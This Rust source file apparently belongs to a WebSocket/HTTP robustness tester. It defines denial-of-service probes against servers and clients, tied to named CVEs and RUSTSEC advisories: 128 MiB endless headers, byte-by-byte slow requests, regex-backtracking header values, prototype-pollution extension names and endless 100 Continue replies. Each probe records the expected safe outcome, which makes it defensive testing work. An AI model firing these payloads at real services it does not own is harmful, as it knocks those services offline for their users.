//! Heads that cost more than they look, to servers and to clients.

use std::sync::Arc;
use std::time::Duration;

use super::due::{A_CAP, AN_ANSWER, GOES_ON};
use crate::abuse::attack::{Attack, Due, Good, Play, Playing, Seen};
use crate::abuse::bytes::widened;
use crate::abuse::raw::Raw;
use crate::abuse::target::{Target, not_connected};

/// A head without end stops here: far above what anybody sends, and above the memory's bound.
const ENDLESS: u64 = 128 * 1024 * 1024;

/// The same in small writes.
const DRIPPED: u64 = 1024 * 1024;

/// Longest time for sending such a head.
const SENDING: Duration = Duration::from_secs(20);

/// A header's value that fits into the 8 KiB that most servers allow a head, with the rest of it.
const LONG: usize = 7 * 1024;

/// So often is such a head sent: one that takes a second to parse is noticed, so is one of 0.1 s.
const OFTEN: u32 = 20;

/// A client that is told no head ends the connection; nobody has to be told.
const GIVES_UP: Due =
    Due { good: &[Good::Cut], because: "it holds all of a head, so a head has to have an end" };

pub(super) const ATTACKS: &[Attack] = &[
    Attack::new(
        "endless-header",
        "D4",
        "a header of up to 128 MiB",
        A_CAP,
        Play::Act(|target| pour(target, b"X-Endless: ".to_vec(), vec![b'x'; 64 * 1024], ENDLESS)),
    ),
    Attack::new(
        "endless-headers",
        "D4, CVE-2024-37890",
        "headers of up to 128 MiB in all",
        A_CAP,
        Play::Act(|target| {
            pour(target, Vec::new(), b"X-Endless: one of many\r\n".repeat(2700), ENDLESS)
        }),
    ),
    Attack::new(
        "endless-line",
        "D4",
        "a request line of up to 128 MiB",
        A_CAP,
        Play::Act(|target| {
            Box::pin(async move {
                let Ok(mut raw) = target.connect().await else { return Seen::Gone };
                raw.put(b"GET /").await;
                raw.ask(&vec![b'x'; 64 * 1024], ENDLESS / (64 * 1024), SENDING).await.0
            })
        }),
    ),
    Attack::new(
        "thousands-of-headers",
        "CVE-2024-37890",
        "5,000 short headers",
        AN_ANSWER,
        Play::Act(|target| {
            Box::pin(async move {
                let mut request = target.request(&[]);
                request.truncate(request.len() - 2);
                request.extend(b"a:b\r\n".repeat(5000));
                request.extend(b"\r\n");
                often(&target, 1, &request).await
            })
        }),
    ),
    Attack::new(
        "head-dripped",
        "RUSTSEC-2023-0065, CVE-2023-43669",
        "a head of up to 1 MiB in writes of 16 bytes",
        A_CAP,
        Play::Act(|target| pour(target, b"X-Dripped: ".to_vec(), vec![b'x'; 16], DRIPPED)),
    ),
    Attack::new(
        "head-byte-by-byte",
        "RUSTSEC-2023-0065, CVE-2023-43669",
        "an opening request of 7 KiB, each byte by itself",
        AN_ANSWER,
        Play::Act(byte_by_byte),
    ),
    Attack::new(
        "protocol-list",
        "CVE-2021-32640",
        "7 KiB of blanks and commas for subprotocols, 20 times",
        AN_ANSWER,
        Play::Act(|target| {
            with_header(target, "Sec-WebSocket-Protocol", format!("a{}b", " ,".repeat(LONG / 2)))
        }),
    ),
    Attack::new(
        "protocol-blanks",
        "CVE-2021-32640",
        "7 KiB of blanks in a subprotocol, 20 times",
        AN_ANSWER,
        Play::Act(|target| {
            with_header(target, "Sec-WebSocket-Protocol", format!("a{}b", " ".repeat(LONG)))
        }),
    ),
    Attack::new(
        "connection-list",
        "CVE-2023-26103",
        "7 KiB of tokens and blanks for Connection, 20 times",
        AN_ANSWER,
        Play::Act(|target| {
            let value = format!("{}{}, Upgrade", "x, ".repeat(LONG / 6), "\t ".repeat(LONG / 4));
            with_header(target, "Connection", value)
        }),
    ),
    Attack::new(
        "upgrade-list",
        "CVE-2023-26103",
        "7 KiB of tokens and blanks for Upgrade, 20 times",
        AN_ANSWER,
        Play::Act(|target| {
            let value = format!("{}{}, websocket", "x, ".repeat(LONG / 6), "\t ".repeat(LONG / 4));
            with_header(target, "Upgrade", value)
        }),
    ),
    Attack::new(
        "extension-names",
        "GHSA-5v72-xg48-5rpm",
        "extensions named as members of objects, and twice",
        AN_ANSWER,
        Play::Act(|target| {
            let names = "constructor, __proto__; toString=1, hasOwnProperty; valueOf; __proto__=x, \
                         constructor; a; a; a=1; a=\"\", permessage-deflate; constructor";
            with_header(target, "Sec-WebSocket-Extensions", names.to_owned())
        }),
    ),
    Attack::new(
        "extension-quote",
        "CVE-2020-7662, CVE-2020-7663",
        "7 KiB of backslashes in a quoted parameter that does not end, 20 times",
        AN_ANSWER,
        Play::Act(|target| {
            let value = format!("x; a=\"{}", "\\\\".repeat(LONG / 2));
            with_header(target, "Sec-WebSocket-Extensions", value)
        }),
    ),
    Attack::new(
        "extension-list",
        "CVE-2021-32640",
        "7 KiB of offers to compress, 20 times",
        AN_ANSWER,
        Play::Act(|target| {
            let value = vec!["permessage-deflate"; LONG / 20].join(", ");
            with_header(target, "Sec-WebSocket-Extensions", value)
        }),
    ),
    Attack::new(
        "endless-header",
        "D4",
        "an answer with a header of up to 128 MiB",
        GIVES_UP,
        Play::Meet(|raw, request| {
            let mut head = request.answer(&[]);
            head.truncate(head.len() - 2);
            answer(raw, [&head, &b"X-Endless: "[..]].concat(), vec![b'x'; 64 * 1024], ENDLESS)
        }),
    ),
    Attack::new(
        "endless-headers",
        "D4, CVE-2024-37890",
        "an answer with headers of up to 128 MiB",
        GIVES_UP,
        Play::Meet(|raw, request| {
            let mut head = request.answer(&[]);
            head.truncate(head.len() - 2);
            answer(raw, head, b"X-Endless: one of many\r\n".repeat(2700), ENDLESS)
        }),
    ),
    Attack::new(
        "endless-continue",
        "RFC 9110 §15.2",
        "100 Continue again and again",
        GIVES_UP,
        Play::Meet(|raw, _| {
            answer(raw, Vec::new(), b"HTTP/1.1 100 Continue\r\n\r\n".repeat(2700), ENDLESS)
        }),
    ),
    Attack::new(
        "endless-refusal",
        "RFC 9112 §6.3",
        "a refusal with a body of up to 128 MiB",
        GIVES_UP,
        Play::Meet(|raw, _| {
            answer(raw, b"HTTP/1.1 500 Oops\r\n\r\n".to_vec(), vec![b'x'; 64 * 1024], ENDLESS)
        }),
    ),
    Attack::new(
        "head-dripped",
        "RUSTSEC-2023-0065, CVE-2023-43669",
        "an answer's head of up to 1 MiB in writes of 16 bytes",
        GIVES_UP,
        Play::Meet(|raw, request| {
            let mut head = request.answer(&[]);
            head.truncate(head.len() - 2);
            answer(raw, [&head, &b"X-Dripped: "[..]].concat(), vec![b'x'; 16], DRIPPED)
        }),
    ),
    Attack::new(
        "head-byte-by-byte",
        "RUSTSEC-2023-0065, CVE-2023-43669",
        "the answer that opens a WebSocket, each byte by itself",
        GOES_ON,
        Play::Meet(|raw, request| {
            Box::pin(async move {
                for byte in request.answer(&[]) {
                    raw.put(&[byte]).await;
                }
                raw.alive().await
            })
        }),
    ),
];

/// Sends a request that does not end, in batches, until it is refused or so much was taken.
fn pour(target: Arc<Target>, begin: Vec<u8>, batch: Vec<u8>, most: u64) -> Playing<'static> {
    Box::pin(async move {
        let mut raw = match target.connect().await {
            Ok(raw) => raw,
            Err(error) => return not_connected(&error),
        };
        let mut head = target.request(&[]);
        head.truncate(head.len() - 2);
        head.extend(begin);
        raw.put(&head).await;
        raw.ask(&batch, most / widened(batch.len()), SENDING).await.0
    })
}

/// The same for an answer.
fn answer(raw: &mut Raw, begin: Vec<u8>, batch: Vec<u8>, most: u64) -> Playing<'_> {
    Box::pin(async move {
        raw.put(&begin).await;
        match raw.pour(&batch, most / widened(batch.len()), SENDING).await {
            // What it said before it left is for a server that opened a WebSocket.
            Seen::Closed(_) => Seen::Cut,
            seen => seen,
        }
    })
}

fn byte_by_byte(target: Arc<Target>) -> Playing<'static> {
    Box::pin(async move {
        let mut raw = match target.connect().await {
            Ok(raw) => raw,
            Err(error) => return not_connected(&error),
        };
        let request = target.request(&[("X-Long", Some(&"x".repeat(LONG)))]);
        let (last, rest) = request.split_last().unwrap_or((&0, &[]));
        for byte in rest {
            if !raw.put(&[*byte]).await {
                break;
            }
        }
        answered(raw.ask(&[*last], 1, target.patience).await.0)
    })
}

fn with_header(target: Arc<Target>, name: &'static str, value: String) -> Playing<'static> {
    Box::pin(async move {
        let request = target.request(&[(name, Some(&value))]);
        often(&target, OFTEN, &request).await
    })
}

/// Asks so often, one after the other; all of it has as long as one answer may take.
async fn often(target: &Target, times: u32, request: &[u8]) -> Seen {
    let begun = tokio::time::Instant::now();
    let mut last = Seen::Silent;
    for _ in 0..times {
        let mut raw = match target.connect().await {
            Ok(raw) => raw,
            Err(error) => return not_connected(&error),
        };
        last = answered(raw.ask(request, 1, target.patience).await.0);
        if last == Seen::Silent {
            return last;
        }
    }
    match begun.elapsed() {
        time if time > target.patience => Seen::Hung(format!("{times} answers took {time:.1?}")),
        _ => last,
    }
}

/// A whole request asks for an answer.
fn answered(seen: Seen) -> Seen {
    match seen {
        Seen::Took(_) => Seen::Silent,
        seen => seen,
    }
}
